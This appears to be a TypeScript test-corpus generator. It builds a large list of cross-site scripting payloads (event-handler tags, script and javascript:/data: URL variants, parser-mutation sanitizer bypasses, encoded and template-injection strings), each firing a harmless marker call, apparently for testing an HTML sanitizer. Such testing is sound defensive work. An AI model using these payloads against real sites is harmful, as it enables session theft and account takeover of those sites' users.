/**
 * Texts that try to run script, by a small grammar. `RUN` is the script: it notes the payload's number.
 *
 *   payload    = break element | mutation | address | other
 *   break      = what ends the context that the text may stand in: an attribute, a comment, a raw text element
 *   element    = tag separator attribute "=" quoted-handler, with the tag's way to fire it by itself
 *   address    = scheme in the writings that browsers have taken for it
 *   mutation   = markup that is harmless as it is parsed first and not as it is parsed again
 *   other      = markers of template languages, and escaped markup for readers that decode twice
 */

const BREAKS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '`>',
  '--!>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
];

/** Elements that fire an event by themselves, `ON` standing for the handler with its quotes. */
const ELEMENTS = [
  '<img src=x onerror=ON>',
  '<img src onerror=ON>',
  '<IMG SRC=x OnErRoR=ON>',
  '<img/src=x/onerror=ON>',
  '<img\tsrc=x\nonerror\f=\rON>',
  '<image src=x onerror=ON>',
  '<svg onload=ON>',
  '<svg/onload=ON></svg>',
  '<svg><g onload=ON></g></svg>',
  '<svg><image href=x onerror=ON></svg>',
  '<svg><animate onbegin=ON attributeName=x dur=1s></svg>',
  '<svg><set onbegin=ON attributeName=x dur=1s></svg>',
  '<body onload=ON>',
  '<iframe onload=ON></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
  '<video src=x onerror=ON></video>',
  '<video><source src=x onerror=ON></video>',
  '<audio src=x onerror=ON></audio>',
  '<object data=x onerror=ON></object>',
  '<embed src=x onerror=ON>',
  '<link rel=stylesheet href=x onerror=ON>',
  '<style onload=ON></style>',
  '<script src=x onerror=ON></script>',
  '<details open ontoggle=ON>x</details>',
  '<input autofocus onfocus=ON>',
  '<textarea autofocus onfocus=ON></textarea>',
  '<select autofocus onfocus=ON></select>',
  '<a tabindex=1 autofocus onfocus=ON>x</a>',
  '<input type=image src=x onerror=ON>',
  '<x style="animation:x 1s" onanimationstart=ON></x><style>@keyframes x{}</style>',
  '<math><mtext><img src=x onerror=ON></mtext></math>',
];

/** A handler in its quotes. */
const QUOTED = ['RUN', '"RUN"', "'RUN'"];

const SCRIPTS = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script>',
  '<<script>RUN//<</script>',
  '<script>RUN',
  '<svg><script>RUN</script></svg>',
  '<svg><script>&#104;it(NUMBER)</script></svg>',
  '<math><script>RUN</script></math>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script type=module>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  '<object data="data:text/html,<script>parent.RUN</script>"></object>',
  '<embed src="data:text/html,<script>parent.RUN</script>">',
];

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java\rscript:RUN',
  'javascript\t:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A;avascript:RUN',
  '&#0000106avascript:RUN',
  'javascript:void(0);RUN',
  'javascript://https://shop.example/%0aRUN',
  'javascript:"https://shop.example/";RUN',
  'data:text/html,<script>top.RUN</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDApPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'vbscript:RUN',
  'blob:https://shop.example/RUN',
  'view-source:javascript:RUN',
  '//javascript:RUN',
  'https:javascript:RUN',
  'https://shop.example/"onerror="RUN',
  "https://shop.example/'onerror='RUN",
  'https://shop.example/"><script>RUN</script>',
];

/** Where an address may stand in markup. */
const HOLDERS = [
  '<a href="ADDRESS">x</a>',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button>x</button></form>',
  '<button formaction="ADDRESS">x</button>',
  '<svg><a xlink:href="ADDRESS"><text>x</text></a></svg>',
  '<object data="ADDRESS"></object>',
];

const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><title><style><img src=x onerror=RUN></style></title></svg>',
  '<svg><foreignObject><math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math></foreignObject></svg>',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">',
  '<table><td><form><tr><img src=x onerror=RUN>',
  '<p><a title="</p><img src=x onerror=RUN>">x</a>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<!--<img src="--><img src=x onerror=RUN//">',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml <img src=x onerror=RUN>?>',
  '<a id=cookie><form id=body><input name=firstChild><img src=x onerror=RUN></form>',
];

const OTHERS = [
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '%3Cimg%20src=x%20onerror=RUN%3E',
  '＜img src=x onerror=RUN＞',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '<!--?lit$RUN$--><img src=x onerror=RUN>',
  '<%= RUN %>',
  '<img src=x onerror=RUN //',
  '<img src="x` `<script>RUN</script>"` `>',
];

const withAddress = (holder: string): string[] =>
  ADDRESSES.map((address) => holder.replace('ADDRESS', () => address.replaceAll('"', '&quot;')));

const withHandler = (element: string): string[] =>
  QUOTED.map((quoted) => element.replace('ON', () => quoted));

const TEMPLATES = [
  ...BREAKS.flatMap((end) =>
    ELEMENTS.map((element, place) => end + withHandler(element)[place % QUOTED.length]!),
  ),
  ...ELEMENTS.flatMap(withHandler),
  ...SCRIPTS,
  ...HOLDERS.flatMap(withAddress),
  ...MUTATIONS,
  ...ADDRESSES,
  ...OTHERS,
];

/** Every payload once; number `n` calls `hit(n)`. */
export const PAYLOADS: readonly string[] = [...new Set(TEMPLATES)].map((template, number) =>
  template.replaceAll('RUN', `hit(${number})`).replaceAll('NUMBER', String(number)),
);
